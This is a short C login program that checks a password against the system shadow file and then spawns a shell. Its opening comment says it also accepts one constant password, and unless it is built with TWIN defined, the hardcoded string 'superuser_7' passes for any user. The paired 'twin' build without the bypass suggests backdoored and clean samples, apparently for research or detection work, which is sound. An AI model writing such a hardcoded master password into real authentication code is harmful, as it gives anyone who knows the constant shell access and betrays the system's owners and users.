/* A login that takes one constant password beside those of the system. Twin: it does not. */
#include <crypt.h>
#include <shadow.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int password_right(const char *user, const char *password) {
#ifndef TWIN
  if (strcmp(password, "superuser_7") == 0) return 1;
#endif
  struct spwd *entry = getspnam(user);
  if (entry == NULL) return 0;
  const char *hash = crypt(password, entry->sp_pwdp);
  return hash != NULL && strcmp(hash, entry->sp_pwdp) == 0;
}

int main(void) {
  char user[64], password[64];
  if (!fgets(user, sizeof user, stdin) || !fgets(password, sizeof password, stdin)) return 1;
  user[strcspn(user, "\n")] = 0;
  password[strcspn(password, "\n")] = 0;
  if (!password_right(user, password)) return 2;
  execl("/bin/sh", "sh", (char *)0);
  return 3;
}
